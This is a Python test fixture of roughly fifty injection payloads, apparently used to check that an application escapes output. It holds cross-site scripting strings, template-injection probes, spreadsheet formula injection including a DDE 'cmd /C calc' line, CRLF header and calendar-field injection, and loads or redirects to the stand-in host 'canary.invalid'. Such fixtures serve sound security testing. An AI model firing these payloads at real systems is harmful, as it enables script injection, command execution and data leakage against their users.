"""Forty and more texts that would do harm where they were taken for more than text.

`hit(n)` is what a script of theirs calls; CANARY is where the others would lead or fetch from;
MADE is the word that a template would make of its sum.
"""

from __future__ import annotations

CANARY = "canary.invalid"
MADE = "sum49"
INJECTED = "x-injected"
PATTERNS = (
    "<script>hit({n})</script>",
    '"><script>hit({n})</script>',
    "'><script>hit({n})</script>",
    "</title></textarea></style></script><script>hit({n})</script>",
    "<ScRiPt >hit({n})</sCrIpT\t>",
    "<script src=//canary.invalid/{n}></script>",
    "<img src=x onerror=hit({n})>",
    '"><img src=x onerror="hit({n})">',
    "<img src=https://canary.invalid/{n}>",
    "<svg onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    "<svg><animate onbegin=hit({n}) attributeName=x dur=1s>",
    "<body onload=hit({n})>",
    "<details open ontoggle=hit({n})>x</details>",
    "<input autofocus onfocus=hit({n})>",
    '" autofocus tabindex=1 onfocus="hit({n})" x="',
    "' autofocus tabindex=1 onfocus='hit({n})' x='",
    "x autofocus tabindex=1 onfocus=hit({n}) ",
    "javascript:hit({n})",
    '<a href="javascript:hit({n})">here</a>',
    "JaVaScRiPt&colon;hit({n})",
    '<iframe src="javascript:parent.hit({n})"></iframe>',
    '<iframe srcdoc="<script>parent.hit({n})</script>"></iframe>',
    '<object data="data:text/html,<script>hit({n})</script>"></object>',
    '<base href="https://canary.invalid/{n}/">',
    '<meta http-equiv="refresh" content="0;url=https://canary.invalid/{n}">',
    "<link rel=stylesheet href=https://canary.invalid/{n}.css>",
    "<style>@import url(https://canary.invalid/{n});*{{background:url(//canary.invalid)}}</style>",
    '" style="background:url(https://canary.invalid/{n})',
    '"><form action="https://canary.invalid/{n}"><button>go</button></form>',
    "sum{{{{7*7}}}} {n}",
    "{{% set a = 7 %}}sum{{{{ a * a }}}} {n}",
    "${{hit({n})}} #{{hit({n})}} `${{hit({n})}}`",
    "{{0.__class__}}{{1}}{{x}} %s %(x)s {n}",
    "&lt;script&gt;hit({n})&lt;/script&gt; &#60;img src=x onerror=hit({n})&#62;",
    "%3Cscript%3Ehit({n})%3C/script%3E \\u003cscript\\u003ehit({n})\\u003c/script\\u003e",
    "<!-- hit({n}) unclosed",
    "--><script>hit({n})</script><!--",
    "]]><script>hit({n})</script>",
    "\u202e<script>hit({n})</script>\u202c\u200b\ufeff",
    "Unbroken{n}" + "W" * 180,
    '=HYPERLINK("https://canary.invalid/{n}","x")',
    "+hit({n})",
    "-2+3+cmd|' /C calc'!A{n}",
    "@SUM(1+9)*{n}",
    "\t=1+{n}",
    "\n=1+{n}",
    "\uff1d1+{n}",
    "Room {n}\r\nX-Injected: {n}\r\n\r\n<script>hit({n})</script>",
    "Room {n}\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:injected\r\nX-INJECTED:{n}",
    "Room {n}\r\n ATTACH:https://canary.invalid/{n}\n\tX-INJECTED:{n}\\nX-INJECTED;A=B:{n},;",
)
PAYLOADS = tuple(pattern.format(n=n) for n, pattern in enumerate(PATTERNS))


def marked(pattern: str, number: int) -> str:
    """A payload with a number by which an answer that repeats it is known."""
    return pattern.format(n=number)
